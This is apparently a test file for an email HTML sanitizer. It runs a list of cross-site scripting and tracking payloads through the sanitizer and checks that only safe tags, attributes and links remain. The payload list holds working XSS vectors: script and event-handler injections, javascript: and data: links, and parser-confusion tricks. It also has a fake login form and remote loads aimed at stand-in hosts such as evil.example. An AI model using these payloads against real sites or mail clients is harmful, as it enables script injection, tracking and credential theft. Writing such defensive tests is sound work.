/** HTML of mails, as strangers write it: nothing of it may run, be fetched, or pretend to lead elsewhere (R37). */
import { JSDOM } from "jsdom";
import { safeHtml } from "@/lib/mail/core/safe-html";

const clean = (html: string): string => safeHtml(html)?.html ?? "";

const payloads = [
  "<script>alert(1)</script>",
  "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  '<img src=x onerror="alert(1)">',
  '<img src="https://track.example/pixel.gif" width=1 height=1>',
  "<svg onload=alert(1)><script>alert(1)</script></svg>",
  '<svg><a xlink:href="javascript:alert(1)"><text y="1">x</text></a></svg>',
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
  '<a href="javascript:alert(1)">x</a>',
  '<a href=" java&#x0A;script:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="//evil.example/">x</a>',
  '<a href="mailto:%ff%E0@x.example">x</a><a href="mailto:ada@example.com">x</a>',
  '<a href="https://ok.example/" onclick="alert(1)" style="position:fixed;inset:0">x</a>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe src="https://evil.example"></iframe>',
  '<object data="https://evil.example"></object><embed src="https://evil.example">',
  '<form action="https://evil.example"><input name=password><button>Sign in</button></form>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  "<style>@import url(https://evil.example/x.css); body{display:none}</style>",
  '<div style="background:url(https://track.example/x)">x</div>',
  '<table background="https://track.example/x"><tr><td>x</td></tr></table>',
  '<body onload="alert(1)">x</body>',
  '<video src="https://track.example/x" onerror="alert(1)" autoplay></video><audio src=x onerror=alert(1)>',
  '<div id="__next" name="location" class="fixed inset-0">x</div>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  "<textarea></textarea><img src=x onerror=alert(1)>",
  "<template><img src=x onerror=alert(1)></template>",
  '<a href="https://ok.example" data-host="bank.example" target="_self" rel="opener">bank.example</a>',
  "<!--><img src=x onerror=alert(1)>-->",
  "<![CDATA[<img src=x onerror=alert(1)>]]>",
  '<p dir="ltr" onmouseover=alert(1) xmlns="x" is="evil">x</p>',
  "<p>\u0000<scr\u0000ipt>alert(1)</scr\u0000ipt></p>",
];

const tags = new Set(
  "p br div span h3 h4 h5 ul ol li dl dt dd blockquote pre code b strong i em u s sub sup small hr a table thead tbody tfoot tr td th caption img".split(" "),
);
const attributes = new Set(["href", "rel", "target", "data-host", "colspan", "rowspan", "dir", "data-picture", "alt", "width", "height"]);

test.each(payloads)("%s leaves nothing that runs, is fetched or covers the page", (payload) => {
  const html = clean(`<p>before</p>${payload}<p>after</p>`);
  const { document } = new JSDOM(`<main>${html}</main>`).window;
  const elements = [...document.querySelectorAll("main *")];
  expect(elements.map(({ localName }) => localName).filter((name) => !tags.has(name))).toEqual([]);
  expect(elements.flatMap((element) => [...element.attributes].map(({ name }) => name)).filter((name) => !attributes.has(name))).toEqual([]);
  for (const link of document.querySelectorAll("main a")) {
    expect(link.getAttribute("href")).toMatch(/^(?:https?:\/\/|mailto:)/);
    expect([link.getAttribute("rel"), link.getAttribute("target")]).toEqual(["noopener noreferrer nofollow", "_blank"]);
    expect(link.getAttribute("data-host")).toBe(
      new URL(link.getAttribute("href") ?? "").hostname || /^mailto:(.*)$/.exec(link.getAttribute("href") ?? "")?.[1],
    );
  }
  expect(document.querySelector("main")?.textContent).toContain("before");
});

test("what people write stays: paragraphs, lists, quotes, tables, links with the host they lead to", () => {
  expect(
    clean(
      '<h1>News</h1><ul><li>one</li></ul><blockquote>said</blockquote><table><tr><td colspan="2">x</td></tr></table><a href="https://evil.example/a?b=1&amp;c=2">bank.example</a>',
    ),
  ).toBe(
    '<h3>News</h3><ul><li>one</li></ul><blockquote>said</blockquote><table><tr><td colspan="2">x</td></tr></table><a href="https://evil.example/a?b=1&amp;c=2" rel="noopener noreferrer nofollow" target="_blank" data-host="evil.example">bank.example</a>',
  );
});

test("of a picture only its number, its words and its size stay, each address once; one that nobody can see goes, and so does what isn't on the web", () => {
  expect(safeHtml('<p>Hi</p><img src="https://x.example/a.png">')).toEqual({
    html: '<p>Hi</p><img data-picture="0" alt="" />',
    leftOut: true,
    pictures: ["https://x.example/a.png"],
  });
  expect(safeHtml("<p>Hi</p>")).toEqual({ html: "<p>Hi</p>", leftOut: false, pictures: [] });
  const { html, pictures } = safeHtml(
    [
      '<img alt="Our &quot;new&quot; <shop>" width="600" height="x" src="http://x.example/a.png?u=1&amp;v=2" srcset="https://x.example/b.png 2x" onload="x()" style="position:fixed">',
      '<img src="https://x.example/open.gif" width="1" height="1"><img src="https://x.example/open.gif" height=0>',
      '<img src="cid:logo"><img src="data:image/png;base64,AAAA"><img src="//x.example/c.png"><img src="/api/mails"><img src="https://u:p@x.example/d.png"><img>',
      '<img src="https://x.example/e.png"><img src="http://x.example/a.png?u=1&amp;v=2">',
    ].join("<br>"),
  ) ?? { html: "", pictures: [] };
  expect(pictures).toEqual(["http://x.example/a.png?u=1&v=2", "https://x.example/e.png"]);
  expect(html.split("<br />")).toEqual([
    '<img data-picture="0" alt="Our &quot;new&quot; &lt;shop&gt;" width="600" />',
    "",
    "",
    '<img data-picture="1" alt="" /><img data-picture="0" alt="" />',
  ]);
  expect(safeHtml(Array.from({ length: 150 }, (_, n) => `<img src="https://x.example/${n}.png">`).join(""))?.pictures).toHaveLength(100);
});

test("what leaves nothing to read is shown as text instead; bombs are cut", () => {
  expect(safeHtml('<img src="https://x.example/open.png" width="1" height="1">&nbsp;<br>')).toBeNull();
  const startedMs = Date.now();
  safeHtml("<div>".repeat(70_000));
  safeHtml(`<a href="${"x".repeat(390_000)}`);
  safeHtml("<table><tr><td>".repeat(20_000));
  safeHtml('<img src="https://x.example/a.png">'.repeat(11_000));
  expect(Date.now() - startedMs).toBeLessThan(8_000);
});
